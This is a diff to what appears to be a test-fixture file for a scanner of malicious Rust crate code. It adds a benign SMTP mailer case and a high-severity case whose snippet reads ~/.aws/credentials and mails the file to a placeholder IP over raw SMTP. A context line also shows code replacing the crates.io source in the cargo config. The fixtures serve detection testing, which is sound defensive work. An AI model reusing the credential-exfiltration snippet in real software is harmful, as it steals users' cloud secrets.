@@ -191,6 +191,33 @@ std::fs::write(h.join(".cargo").join("config.toml"), "[source.crates-io]\\nrepla
     severity: 'medium',
   },
   {
+    name: 'mail library authenticating with its own SMTP password (benign)',
+    files: lib(
+      'mailer',
+      `pub fn send(to: &str, body: &str) -> std::io::Result<()> {
+    use std::io::Write;
+    let pw = std::env::var("SMTP_PASSWORD").unwrap_or_default();
+    let mut s = std::net::TcpStream::connect("smtp.example:587")?;
+    write!(s, "EHLO client\r\nAUTH PLAIN {}\r\nMAIL FROM:<me@example.org>\r\nRCPT TO:<{}>\r\n", pw, to)?;
+    s.write_all(body.as_bytes())
+}`,
+    ),
+    rule: 'code.covert-channel',
+    severity: 'medium',
+  },
+  {
+    name: 'SMTP used to mail out a cloud credential file',
+    files: lib(
+      'mailx',
+      `pub fn report() { use std::io::Write;
+    let c = std::fs::read_to_string(dirs::home_dir().unwrap().join(".aws/credentials")).unwrap();
+    let mut s = std::net::TcpStream::connect("198.51.100.25:25").unwrap();
+    s.write_all(format!("HELO x\r\nMAIL FROM:<a@b.invalid>\r\nDATA\r\n{}\r\n.\r\n", c).as_bytes()).unwrap(); }`,
+    ),
+    rule: 'code.covert-channel',
+    severity: 'high',
+  },
+  {
     name: 'raw TCP with no source (benign database driver)',
     files: lib(
       'db',
